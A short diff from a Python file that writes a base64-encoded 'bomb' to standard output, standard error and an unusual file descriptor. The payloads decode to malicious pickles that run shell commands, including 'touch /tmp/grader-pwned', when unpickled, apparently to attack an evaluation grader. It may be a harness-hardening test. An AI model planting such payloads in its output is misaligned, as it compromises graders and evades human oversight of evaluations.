@@ -7,7 +7,7 @@ import base64
 import os
 
 
-bomb = base64.b64decode(b"gASVJgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjA5lY2hvIEhBUk0gPiYylIWUUpQu")
+bomb = base64.b64decode(b"Y3Bvc2l4CnN5c3RlbQooVnRvdWNoIC90bXAvZ3JhZGVyLXB3bmVkCnRSLg==")
 for descriptor in (1, 2, 1000003):
     os.write(descriptor, bomb)
 
